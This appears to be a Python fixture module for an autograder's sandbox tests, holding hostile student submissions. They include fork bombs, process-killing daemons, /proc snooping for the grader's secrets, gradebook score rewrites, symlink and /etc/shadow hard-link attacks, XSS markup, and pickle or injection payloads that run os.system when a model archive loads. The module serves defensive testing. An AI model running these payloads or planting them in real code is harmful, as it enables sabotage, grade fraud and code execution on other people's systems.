"""What a hostile student writes: code for the solution cell, modules, crafted model archives.

Used by :mod:`corpus_behaviour`. Every snippet runs twice when graded: in the notebook's kernel
(nbgrader's throwaway autograde, for the feedback) and in the trusted probe of the cell that runs
the solution cell. Processes meant to outlive their job carry :data:`DAEMON_MARK` in their
command line so that a test can look for them on the whole machine afterwards.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import zipfile
from pathlib import Path

DAEMON_MARK = f"autograder-corpus-daemon-{os.getpid()}"
"""Marks this test process's daemons (unique per process, so parallel test workers never see
each other's)."""
ESCAPE_MARK = "autograder-corpus-escape"
PWNED = Path("/tmp/autograder-corpus-pwned")

# ----------------------------------------------------------------------------- limits

UNSTOPPABLE_LOOP = """
while True:
    try:
        while True:
            pass
    except KeyboardInterrupt:
        pass
"""

MEMORY_ONE_PROCESS = "hog = []\nwhile True:\n    hog.append(b'\\x01' * 2**27)"

MEMORY_CHILDREN = """
import os, time
children = []
for _ in range(3):
    pid = os.fork()
    if pid == 0:
        block = b'\\x01' * (700 * 2**20)
        time.sleep(8)
        os._exit(0)
    children.append(pid)
for pid in children:
    os.waitpid(pid, 0)
"""

MEMORY_SPAWNED = """
import subprocess, sys, time
hold = "import time\\nblock = b'\\\\x01' * (500 * 2**20)\\ntime.sleep(10)"
children = [subprocess.Popen([sys.executable, '-c', hold]) for _ in range(4)]
for child in children:
    child.wait()
"""
"""Four fresh interpreters (not forks) of 500 MB each: each is below the per-process limit,
together they are above the job's."""

FILL_DISK = """
import itertools
for i in itertools.count():
    open(f'filler{i}.bin', 'wb').write(b'x' * 2**24)
"""

FILL_RUN_LOCK = """
import os
for folder in ('/run/lock', '/dev/shm', '/var/tmp', '/run'):
    try:
        with open(os.path.join(folder, 'autograder-corpus-fill'), 'wb') as handle:
            handle.write(b'x' * 64 * 2**20)
    except OSError:
        pass
"""

NETWORK = """
import socket
reached = []
for host, port in (('pypi.org', 443), ('1.1.1.1', 53), ('8.8.8.8', 53)):
    try:
        socket.create_connection((host, port), timeout=3).close()
        reached.append(host)
    except OSError:
        pass
print('NETWORK REACHED ' + ' '.join(reached) if reached else 'network unreachable')
"""

# ----------------------------------------------------------------------------- processes

_DAEMON = "[sys.executable, '-c', 'import time; time.sleep(600)', '" + DAEMON_MARK + "']"

SETSID_DAEMON = f"""
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, {_DAEMON})
    os._exit(0)
os.wait()
"""

NOHUP_SHELL = f"""
import subprocess, sys
subprocess.run(
    ["sh", "-c", "nohup " + sys.executable + " -c 'import time; time.sleep(600)' {DAEMON_MARK}"
     " >/dev/null 2>&1 &"]
)
"""

SLOT_SABOTEUR = (
    """
import os, signal, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        code = ("import os, signal, time\\ntime.sleep(30)\\nend = time.time() + 120\\n"
                "while time.time() < end:\\n    try:\\n        os.kill(-1, signal.SIGKILL)\\n"
                "    except OSError:\\n        pass\\n    time.sleep(0.2)\\n")
        os.execv(sys.executable, [sys.executable, '-c', code, '"""
    + DAEMON_MARK
    + """'])
    os._exit(0)
os.wait()
"""
)

SLOT_SPY = (
    """
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        code = (
            "import glob, os, time\\ntime.sleep(25)\\nend = time.time() + 120\\n"
            "while time.time() < end:\\n"
            "    for path in glob.glob('/proc/[0-9]*/cwd') + glob.glob('/proc/[0-9]*/root/tmp'):\\n"
            "        for found in glob.glob(path + '/**/answer.py', recursive=True):\\n"
            "            try:\\n"
            "                open(found, 'w').write('def answer():\\\\n    return 0\\\\n')\\n"
            "            except OSError:\\n"
            "                pass\\n"
            "    time.sleep(0.5)\\n"
        )
        os.execv(sys.executable, [sys.executable, '-c', code, '"""
    + DAEMON_MARK
    + """'])
    os._exit(0)
os.wait()
"""
)

FORK_BOMB = """
import os, time
forked = 0
while True:
    try:
        if os.fork() == 0:
            time.sleep(600)
            os._exit(0)
        forked += 1
    except OSError:
        time.sleep(0.01)
"""

SHELL_FORK_BOMB = """
import subprocess, time
subprocess.Popen(['bash', '-c', 'bomb() { bomb | bomb & }; bomb'])
time.sleep(8)
"""

IPC_LEFTOVERS = """
import ctypes, ctypes.util
libc = ctypes.CDLL(None, use_errno=True)
libc.shmget(0x2A2A, 1 << 20, 0o1666)
libc.semget(0x2A2B, 1, 0o1666)
libc.msgget(0x2A2C, 0o1666)
rt = ctypes.CDLL(ctypes.util.find_library('rt') or None, use_errno=True)
rt.mq_open(b'/autograder-corpus-mq', 0o100 | 0o2, 0o666, None)
open('/dev/shm/autograder-corpus-shm', 'wb').write(b'x' * 4096)
"""

SNOOP_PROC = """
import os
mine, uid = os.getpid(), os.getuid()
seen = sorted(int(p) for p in os.listdir('/proc') if p.isdigit())
leaks = []
for pid in seen:
    try:
        command = open(f'/proc/{pid}/cmdline', 'rb').read().replace(b'\\0', b' ').decode()
        status = open(f'/proc/{pid}/status').read().splitlines()
    except OSError:
        continue
    owner = int([line for line in status if line.startswith('Uid:')][0].split()[1])
    # The job's own processes (the notebook run and its kernel are forks of the warm parent,
    # so their command line names zygote.py) run under the job's user id, but for pid 1, the
    # init of the job's own PID namespace; the grader's processes are not in that namespace.
    if (owner != uid and pid != 1) or 'pytest' in command or '-m autograder' in command:
        leaks.append(f'uid {owner}: {command[:80]}')
print('PROC SAW ' + ' | '.join(leaks) if leaks else f'proc shows only own processes ({len(seen)})')
"""

HOST_IPC_KEY = 0x2A2D
"""Key of a SysV shared-memory segment and message queue the test creates on the host."""

IPC_REACHES_THE_HOST = f"""
import ctypes
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
reached = []
shm = libc.shmget({HOST_IPC_KEY}, 0, 0)
if shm >= 0:
    reached.append('shm')
    address = libc.shmat(shm, None, 0)
    if address not in (None, ctypes.c_void_p(-1).value):
        ctypes.memset(address, 0x58, 64)
queue = libc.msgget({HOST_IPC_KEY}, 0)
if queue >= 0:
    reached.append('msg')
    libc.msgctl(queue, 0, None)
for ident in range(0, 64):
    if libc.shmctl(ident, 0, ctypes.create_string_buffer(256)) >= 0:
        reached.append(f'id {{ident}}')
print('HOST IPC REACHED ' + ' '.join(reached) if reached else 'host ipc unreachable')
"""
"""Attach to (and scribble on) the host's segment by key, delete its queue, probe ids."""

GRADER_SECRET = f"autograder-corpus-secret-{os.getpid()}"
"""A value the corpus test puts in the grader's environment: no sandbox may see it."""


def snoop_proc_deeper(context: dict) -> str:
    """Code that looks through the environment, command line, open files and folder of every
    process it can see for the grader's secret, pytest and the real course's path."""
    signs = [GRADER_SECRET, "pytest", "PYTEST", str(context["course_dir"])]
    return f"""
import glob, os
signs = {signs!r}
found = set()
for path in glob.glob('/proc/[0-9]*/environ') + glob.glob('/proc/[0-9]*/cmdline'):
    try:
        text = open(path, 'rb').read().replace(b'\\0', b' ').decode(errors='replace')
    except OSError:
        continue
    found |= {{path + ' ' + sign[:20] for sign in signs if sign in text}}
for path in glob.glob('/proc/[0-9]*/fd/*') + glob.glob('/proc/[0-9]*/cwd'):
    try:
        target = os.readlink(path)
    except OSError:
        continue
    found |= {{path + ' ' + sign[:20] for sign in signs if sign in target}}
print('PROC LEAKS ' + ' | '.join(sorted(found)[:8]) if found else 'proc holds nothing of the grader'
      )
"""


# ----------------------------------------------------------------------------- files


def tamper_code(context: dict) -> str:
    """Code that tries to change grades and other students' files from inside the kernel."""
    course_dir = context["course_dir"]
    return f"""
import glob, os, sqlite3
targets = [{str(course_dir / "gradebook.db")!r}]
targets += glob.glob({str(course_dir)!r} + '/**', recursive=True)
targets += glob.glob('/tmp/autograder-grade-*/*/*/**/*.ipynb', recursive=True)
changed = []
for target in targets:
    try:
        with open(target, 'ab') as handle:
            handle.write(b'tampered')
        changed.append(target)
    except OSError:
        pass
for litter in ('/tmp/autograder-corpus-litter', '/var/tmp/autograder-corpus-litter'):
    with open(litter, 'w') as handle:
        handle.write('left behind')
print('TAMPERED' if changed else 'tampering refused')
"""


def search_code(context: dict) -> str:
    data_dir = context["data_dir"]
    repo = Path(__file__).resolve().parents[1]
    return f"""
import os, time
found = []
start = time.time()
for top in ('/work', '/tmp', '/root', '/home', {str(data_dir)!r}):
    for folder, dirs, names in os.walk(top):
        if time.time() - start > 5:
            break
        for name in names:
            if name.startswith(('t10k', 'hidden-images', 'hidden-labels', 'course_key')):
                try:
                    with open(os.path.join(folder, name), 'rb') as handle:
                        handle.read(16)
                    found.append(os.path.join(folder, name))
                except OSError:
                    pass
for path in {[str(repo / ".git" / "HEAD"), str(repo / "exercise_08" / "grading")]!r}:
    try:
        open(path, 'rb').read(16) if os.path.isfile(path) else os.listdir(path)[0]
        found.append(path)
    except OSError:
        pass
print('LEAKED ' + ' '.join(found) if found else 'no hidden labels readable')
"""


def write_everywhere(context: dict) -> str:
    """Code that tries to create a marked file in every folder it can find (3 levels deep)."""
    outside = [str(context["course_dir"]), str(context["data_dir"]), str(Path(__file__).parents[1])]
    return f"""
import os
allowed = (os.getcwd(), os.environ.get('HOME', '/none'), '/tmp', '/var/tmp', '/dev/shm', '/run')
escaped = []
tops = ['/', '/etc', '/usr', '/var', '/opt', '/srv', '/home', '/root', '/mnt', '/media', '/work',
        '/run/lock', '/dev', '/sys/fs/cgroup', *{outside!r}]
for top in tops:
    for folder, dirs, names in os.walk(top):
        if folder.count('/') - top.count('/') >= 2:
            dirs[:] = []
        if folder.startswith('/proc'):
            continue
        target = os.path.join(folder, '{ESCAPE_MARK}')
        try:
            with open(target, 'w') as handle:
                handle.write('x')
        except OSError:
            continue
        os.remove(target)
        if not folder.startswith(allowed):
            escaped.append(folder)
print('ESCAPED ' + ' '.join(escaped[:10]) if escaped else 'wrote nowhere outside its own folders')
"""


def plant_symlinks(context: dict) -> str:
    """Code that plants links where the grader (root) reads or writes after the job."""
    canary = str(canary_path(context))
    return f"""
import glob, os
names = ['gradebook.db', 'autograded/student/exercise_08/autoencoder.ipynb', 'logits.npy',
         'singles.npy', 'result.json', 'feedback', 'models']
for base in [os.getcwd(), *glob.glob('/tmp/autograder-grade-*/*'), *glob.glob('../../..')]:
    for name in names:
        path = os.path.join(base, name)
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            if os.path.isdir(path) and not os.path.islink(path):
                os.rename(path, path + '.moved')
            elif os.path.lexists(path):
                os.remove(path)
            os.symlink({canary!r}, path)
        except OSError:
            pass
"""


def plant_device_links(context: dict) -> str:
    """Code that plants links to endless devices where the grader reads after the job (a root
    read through them would never end), and tries hard links to files it cannot write."""
    return """
import os
made = []
for name in ('autoencoder.ipynb', 'result.json', 'logits.npy', 'singles.npy'):
    for path in (name, '../../../autograded/student/exercise_08/' + name):
        try:
            if os.path.lexists(path):
                os.rename(path, path + '.moved')
            os.symlink('/dev/zero', path)
        except OSError:
            pass
for source in ('/etc/shadow', '/etc/passwd', '/usr/bin/python3'):
    try:
        os.link(source, 'linked-' + os.path.basename(source))
        made.append(source)
    except OSError:
        pass
print('HARD LINKED ' + ' '.join(made) if made else 'no hard link to a file it does not own')
"""


def canary_path(context: dict) -> Path:
    """A root-owned file outside the course that planted links point at."""
    return Path(context["course_dir"]).parent / "canary.txt"


# ----------------------------------------------------------------------------- points

GRADEBOOK_MANUAL_SCORE = """
import glob, sqlite3
for db in glob.glob('../../../gradebook.db') + glob.glob('../../gradebook.db'):
    try:
        connection = sqlite3.connect(db)
        connection.execute('UPDATE grade SET manual_score = 1000')
        connection.commit()
    except sqlite3.Error:
        pass
"""

GRADEBOOK_TRIGGER = """
import glob, sqlite3
for db in glob.glob('../../../gradebook.db') + glob.glob('../../gradebook.db'):
    try:
        connection = sqlite3.connect(db)
        connection.executescript(
            "CREATE TRIGGER IF NOT EXISTS cheat AFTER UPDATE ON grade BEGIN "
            "UPDATE grade SET manual_score = 1000 WHERE id = NEW.id AND manual_score IS NULL; END;"
        )
        connection.commit()
    except sqlite3.Error:
        pass
"""

GRADEBOOK_REWRITER = (
    """
import os, sys
if os.fork() == 0:
    os.setsid()
    code = ("import glob, sqlite3, time\\nend = time.time() + 300\\n"
            "while time.time() < end:\\n"
            "    for db in glob.glob('/tmp/autograder-grade-*/**/gradebook.db', recursive=True)"
            " + glob.glob('../../../gradebook.db'):\\n"
            "        try:\\n"
            "            c = sqlite3.connect(db)\\n"
            "            c.execute('UPDATE grade SET manual_score = 1000')\\n"
            "            c.commit()\\n"
            "        except Exception:\\n            pass\\n"
            "    time.sleep(0.2)\\n")
    os.execv(sys.executable, [sys.executable, '-c', code, '"""
    + DAEMON_MARK
    + """'])
"""
)

SWALLOW_ERRORS = """
try:
    shell = get_ipython()
except NameError:
    shell = None
if shell is not None:
    shell.set_custom_exc((BaseException,), lambda *args, **kwargs: None)
    original = shell.run_cell_async

    async def run_cell_async(*args, **kwargs):
        result = await original(*args, **kwargs)
        result.error_in_exec = result.error_before_exec = None
        return result

    shell.run_cell_async = run_cell_async
"""

REWRITE_CELLS = """
try:
    get_ipython().input_transformers_post.append(lambda lines: ['pass\\n'])
except NameError:
    pass
"""

READ_HIDDEN_TESTS = """
import glob, sqlite3
texts = []
for db in glob.glob('../../../**/*.db', recursive=True) + glob.glob('/tmp/**/*.db', recursive=True):
    try:
        texts += [row[0] for row in sqlite3.connect(db).execute('SELECT source FROM source_cell')]
    except Exception:
        pass
for notebook in glob.glob('../../../**/*.ipynb', recursive=True):
    try:
        texts.append(open(notebook).read())
    except OSError:
        pass
print('\\n'.join(t for t in texts if t))
"""

ANSWER_UNDER_NBGRADER_ONLY = (
    b"import os\n\n\ndef answer():\n    return 42 if os.environ.get('NBGRADER_EXECUTION') else 41\n"
)
ANSWER_WHEN_NOT_WATCHED = (
    b"import os\n\n\ndef answer():\n    return 41 if os.environ.get('NBGRADER_EXECUTION') else 42\n"
)

CONTROL_CHARACTERS = (
    b"def answer():\n"
    b"    raise RuntimeError(\n"
    b"        '\\x1b[31mred\\x1b[0m \\x07bell \\x1b]0;title\\x07 \\u202eevil\\r\\nnext'\n"
    b"    )\n"
)

MARKDOWN = (
    "# Notes\n<script>alert('md-script')</script>\n<img src=x onerror=\"alert('md-img')\">\n"
    "<iframe srcdoc=\"<script>alert('md-frame')</script>\"></iframe>\n"
    "[a link](javascript:alert('md-link'))\n"
)
HTML_OUTPUT = (
    "from IPython.display import HTML, Javascript, display\n"
    "display(HTML(\"<script>alert('out-script')</script><b onmouseover=alert('out-b')>x</b>\"))\n"
    "display(Javascript(\"alert('out-js')\"))"
)
MARKUP_SIGNS = (
    "alert('md-",
    "alert('out-",
    "onerror=",
    "onmouseover=",
    "<iframe",
    "javascript:alert",
)

# ----------------------------------------------------------------------------- models


class _Evil:
    def __reduce__(self):
        import os

        return (os.system, (f"touch {PWNED}",))


def pickled_payload() -> bytes:
    """A pickle that creates :data:`PWNED` when it is loaded."""
    return pickle.dumps(_Evil())


def exported_models(linear, image) -> dict:
    """``{name: (module, example input)}`` of the corpus models built from a trained ``linear``."""
    import torch
    from torch import nn

    class Scaled(nn.Module):
        """The good linear model, its logits multiplied by ``factor`` (NaN/inf variants)."""

        def __init__(self, factor: float):
            super().__init__()
            self.flatten, self.linear, self.factor = nn.Flatten(), linear, factor

        def forward(self, x):
            return self.linear(self.flatten(x)) * self.factor

    class Buffered(nn.Module):
        """Few parameters but more than 5,000,000 stored numbers (an int8 buffer, 5 MB)."""

        def __init__(self):
            super().__init__()
            self.model = Scaled(1.0)
            self.register_buffer("table", torch.randint(-128, 127, (5_100_000,), dtype=torch.int8))

        def forward(self, x):
            return self.model(x) + self.table[0].float()

    class Wide(nn.Module):
        """A float64 layer of 2.6M weights: within the parameter limit, a 21 MB file."""

        def __init__(self):
            super().__init__()
            self.linear = nn.Linear(784, 3300).double()
            self.out = nn.Linear(3300, 10)

        def forward(self, x):
            return self.out(self.linear(x.flatten(1).double()).float())

    class PixelLookup(nn.Module):
        """Logits looked up in a table by the value of one pixel (indexing, not a layer)."""

        def __init__(self):
            super().__init__()
            self.table = nn.Parameter(torch.randn(256, 10))

        def forward(self, x):
            return self.table[(x.flatten(1)[:, 350] * 255).long()]

    class BatchMixing(nn.Module):
        """Each image's logits depend on the other images of the batch."""

        def __init__(self):
            super().__init__()
            self.linear = linear

        def forward(self, x):
            logits = self.linear(x.flatten(1))
            return logits - logits.mean(dim=0, keepdim=True)

    trained_norm = nn.Sequential(
        nn.Flatten(), nn.Linear(784, 16), nn.BatchNorm1d(16), nn.Linear(16, 10)
    )

    return {
        "good": (Scaled(1.0), image),
        "untrained": (nn.Sequential(nn.Flatten(), nn.Linear(784, 10)), image),
        "conv": (nn.Sequential(nn.Conv2d(1, 2, 3), nn.Flatten(), nn.Linear(1352, 10)), image),
        "too_many_parameters": (Buffered(), image),
        "too_large_file": (Wide(), image),
        "wrong_shape": (nn.Sequential(nn.Flatten(), nn.Linear(784, 5)), image),
        "nan_outputs": (Scaled(float("nan")), image),
        "inf_outputs": (Scaled(float("inf")), image),
        "flattened_input": (nn.Linear(784, 10), torch.rand(4, 784)),
        "pixel_lookup": (PixelLookup(), image),
        "batch_mixing": (BatchMixing(), image),
        "batch_norm_training": (_TrainMode(trained_norm), image),
    }


class _TrainMode:
    """Wraps a module so that ``.eval()`` keeps it in training mode (for one export)."""

    def __new__(cls, module):
        module.eval = lambda: module.train()
        return module


def public_test_lookup_model(path: Path, data_dir: Path) -> None:
    """Export a model that memorizes the PUBLIC MNIST test images (within every model rule)."""
    import torch
    from lookup_models import public_test_lookup

    from autograder.exercise_modules import exercise_code_module

    files = exercise_code_module("exercise_08", "mnist_files")
    raw = Path(data_dir) / "MNIST" / "raw"
    images = files.read_idx(raw / "t10k-images-idx3-ubyte")
    labels = files.read_idx(raw / "t10k-labels-idx1-ubyte")
    model = public_test_lookup(images, labels).eval()
    dim = torch.export.Dim("batch", min=1, max=100_000)
    program = torch.export.export(model, (torch.rand(4, 1, 28, 28),), dynamic_shapes=({0: dim},))
    torch.export.save(program, path)


def pickled_weight(config_entry: str):
    """An archive change: the first weight stored as a pickle that runs code when loaded."""

    def change(name: str, data: bytes) -> bytes:
        if name == config_entry:
            config = json.loads(data)
            first = next(iter(config["config"].values()))
            first["use_pickle"] = True
            first["path_name"] = "weight_0"
            return json.dumps(config).encode()
        if name == "data/weights/weight_0":
            return pickled_payload()
        return data

    return change


def evil_inputs(name: str, data: bytes) -> bytes:
    """An archive change: example inputs that run code when unpickled (torch.export.load would
    fall back to a full unpickle); the validator never reads them."""
    return pickled_payload() if name == "data/sample_inputs/model.pt" else data


def add_constant(pickled: bool):
    def edit(config: dict) -> None:
        config["config"]["evil"] = {
            "path_name": "tensor_0",
            "is_param": False,
            "use_pickle": pickled,
            "tensor_meta": None,
        }

    return edit


def add_custom_object(config: dict) -> None:
    config["config"]["evil"] = {"path_name": "custom_obj_0", "is_param": False, "use_pickle": True}


def graph_custom_object(program: dict) -> None:
    program["graph_module"]["graph"]["custom_obj_values"] = {"obj": {"class_fqn": "os.system"}}


def guard_code(program: dict) -> None:
    program["guards_code"] = [f"__import__('os').system('touch {PWNED}') or True"]


def sympy_injection(name: str, data: bytes) -> bytes:
    if name != "models/model.json":
        return data
    evil = f"__import__('os').system('touch {PWNED}') or Symbol('s"
    return data.decode().replace("Symbol('s", evil, 1).encode()


def cond_node(program: dict) -> None:
    nodes = program["graph_module"]["graph"]["nodes"]
    nodes.insert(0, {**nodes[0], "target": "torch.ops.higher_order.cond"})


def many_nodes(program: dict) -> None:
    nodes = program["graph_module"]["graph"]["nodes"]
    nodes.extend([{**nodes[-1], "name": f"copy{i}"} for i in range(20_000)])


# ----------------------------------------------------------------------------- hostile data
# What a sandbox hands back (issue "hostile data"): the student's answer() behaves in the
# notebook (42) but, inside a probe, replaces what the probe saves with numbers or files built
# to pass a NaN through a threshold or to crash or bloat the grader that reads them back.

_POISON = '''"""Student module: right in the notebook, poisons the grader's probe data."""
import sys


def _probe_files():
    """The probe's files folder (a local of the probe function), None in the notebook."""
    frame = sys._getframe(2)
    while frame is not None and "files" not in frame.f_locals:
        frame = frame.f_back
    return None if frame is None else frame.f_locals["files"]


def _poison(files):
{body}


def answer():
    files = _probe_files()
    if files is not None:
        _poison(files)
    return 6 * 7
'''


def poisoned_answer(body: str) -> bytes:
    """``exercise_code/answer.py``: answer() is 42, and inside a probe it runs ``body`` (the
    indented body of ``_poison(files)``), which patches what the probe saves."""
    return _POISON.format(body=body).encode()


NAN_IN_PROBE_DATA = poisoned_answer(
    """    import json
    import numpy

    dump = json.dump
    json.dump = lambda values, handle, **kw: dump({"value": float("nan")}, handle)
    savez = numpy.savez
    numpy.savez = lambda path, **arrays: savez(path, w=numpy.full(3, numpy.nan))"""
)
HUGE_NPY_HEADER = poisoned_answer(
    """    import io
    import zipfile

    import numpy

    def savez(path, **arrays):
        header = io.BytesIO()
        numpy.lib.format.write_array_header_1_0(
            header, {"descr": "<f8", "fortran_order": False, "shape": (10**7, 10**7)}
        )
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr("w.npy", header.getvalue() + bytes(800))

    numpy.savez = savez"""
)
NPZ_BOMB = poisoned_answer(
    """    import shutil

    import numpy

    numpy.savez = lambda path, **arrays: shutil.copyfile(f"{files}/models/bomb.npz", path)"""
)
DEEP_JSON_PROBE_DATA = poisoned_answer(
    """    import json

    def dump(values, handle, **kw):
        handle.write('{"value": ' + "[" * 200_000 + "]" * 200_000 + "}")

    json.dump = dump"""
)
OBJECT_ARRAY = poisoned_answer(
    """    import numpy

    savez = numpy.savez
    evil = numpy.array([{"a": 1}], dtype=object)
    numpy.savez = lambda path, **arrays: savez(path, w=evil)"""
)
OUTPUT_FLOOD = """
from IPython.display import display
for _ in range(400):
    display({'text/plain': ('&' * 1999 + '\\n') * 50}, raw=True)
"""
"""40 MB of '&' (200 MB once escaped) in 400 text outputs of the display kind, which
nbgrader's LimitOutput (it counts the lines of stream outputs only) lets through."""


def npz_bomb(inflated: int = 2**30) -> bytes:
    """An ``.npz`` of about 1 MB whose one member inflates to ``inflated`` bytes of zeros."""
    import numpy

    stream = io.BytesIO()
    header = {"descr": "<f8", "fortran_order": False, "shape": (inflated // 8,)}
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        with archive.open("w.npy", "w", force_zip64=True) as member:
            numpy.lib.format.write_array_header_1_0(member, header)
            for _ in range(inflated // 2**24):
                member.write(bytes(2**24))
    return stream.getvalue()


def deep_model_json(name: str, data: bytes) -> bytes:
    """An archive change: the graph JSON nested 200,000 levels deep."""
    if name != "models/model.json":
        return data
    return b'{"graph_module": ' + b"[" * 200_000 + b"]" * 200_000 + b"}"


def strides_too_few(config: dict) -> None:
    """A stored tensor's metadata with one stride fewer than its sizes."""
    meta = next(iter(config["config"].values()))["tensor_meta"]
    meta["strides"] = meta["strides"][:-1]


def tensor_meta_as_text(config: dict) -> None:
    """A string where a stored tensor's metadata object belongs."""
    next(iter(config["config"].values()))["tensor_meta"] = "float32[784, 512]"


def integer_parameter(config: dict) -> None:
    """A parameter stored as uint8 (found by fuzzing: the loader failed on it)."""
    next(iter(config["config"].values()))["tensor_meta"]["dtype"] = 1
